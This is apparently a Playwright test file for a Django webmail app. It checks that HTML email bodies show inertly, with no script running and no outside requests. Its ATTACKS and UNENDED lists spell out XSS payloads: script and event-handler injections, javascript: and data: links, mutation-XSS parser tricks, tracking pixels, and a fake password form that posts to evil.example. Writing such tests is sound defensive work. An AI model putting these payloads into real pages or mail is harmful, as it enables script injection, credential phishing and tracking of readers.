"""Bodies that attack, opened in a real browser: nothing runs, no request leaves, the page round the body stays ours."""

# ruff: noqa: E501 - an attack is read best on one line

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect
from pytest_django.live_server_helper import LiveServer

from mailroom.records.emails.models import Email
from tests.windows.mail.conftest import letter

pytestmark = pytest.mark.django_db(transaction=True)
ATTACKS = [
    "<script>parent.document.title='owned'</script>",
    "<img src=x onerror=\"parent.document.title='owned'\">",
    "<svg onload=\"parent.document.title='owned'\"><script>parent.document.title='owned'</script></svg>",
    "<iframe src=\"javascript:parent.document.title='owned'\"></iframe><iframe srcdoc='<script>top.document.title=1</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<p style=\"background:url('https://evil.example/1.gif');position:fixed;top:0;left:0;width:9999px;height:9999px\">x</p>",
    "<ul style=\"list-style:url('https://evil.example/2.gif')\"><li>x</ul>",
    "<table background='https://evil.example/3.gif'><tr><td background='https://evil.example/4.gif'>x</table>",
    "<img src='https://evil.example/5.gif' srcset='https://evil.example/6.gif 2x'><video poster='https://evil.example/7.gif'>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<a href=\"javascript:parent.document.title='owned'\">press me</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<audio src='https://evil.example/8.mp3' autoplay></audio><img src='//evil.example/9.gif'>",
    "<div id=main><div id=toasts class=toast>false toast</div></div><input autofocus onfocus=\"parent.document.title='owned'\">",
]
UNENDED = [  # what follows them belongs to them
    "<svg><style><img src=x onerror=parent.document.title='owned'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=parent.document.title='owned'&gt;\">",
    "<template><script>parent.document.title='owned'</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>parent.document.title='owned'</script><plaintext>",
]
Opener = Callable[..., Page]


def test_nothing_of_a_body_runs_and_no_request_leaves(
    at: Opener, file_mail: Callable[..., Email], live_server: LiveServer
) -> None:
    """T34: scripts, SVG, frames, style sheets, overlays, forms and addresses of every kind; seen by the test's own page."""
    email = file_mail(letter(1, "<p>Before</p>" + "".join(ATTACKS) + "<p>The end</p>" + "".join(UNENDED), "html"))
    page = at(f"/co409000/?open={email.pk}")
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("dialog", lambda dialog: seen.append("dialog"))
    frame = page.frame_locator("iframe.mail-frame").first
    expect(frame.get_by_text("The end")).to_be_attached()
    expect(frame.get_by_text("Before")).to_be_visible()
    frame.get_by_text("press me").click()
    page.get_by_role("button", name="Next", exact=True).click()
    assert "owned" not in page.title()
    assert not [url for url in seen if not url.startswith(live_server.url)]
    assert (
        frame.locator("script, iframe, object, embed, form, input, link, meta[http-equiv], svg, style + style").count()
        == 0
    )
    covering = page.evaluate("document.elementFromPoint(40, 40)?.closest('iframe') === null")
    assert covering


def test_a_picture_file_that_is_a_page_runs_nothing_when_its_address_is_opened(
    at: Opener, file_mail: Callable[..., Email], live_server: LiveServer
) -> None:
    """T34: the source and the body of a mail are inert at their own addresses too."""
    email = file_mail(letter(1, "<script>document.title='owned'</script><p>words</p>", "html"))
    page = at(f"/cr306015/{email.pk}/")
    page.route("**/favicon.ico", lambda route: route.fulfill(status=204))
    page.goto(f"{live_server.url}/cr306015/{email.pk}/source/")
    assert "<script>" in page.content() or "&lt;script&gt;" in page.content()
    assert page.title() != "owned"
    page.goto(f"{live_server.url}/cr306015/{email.pk}/body/")
    assert page.title() != "owned"
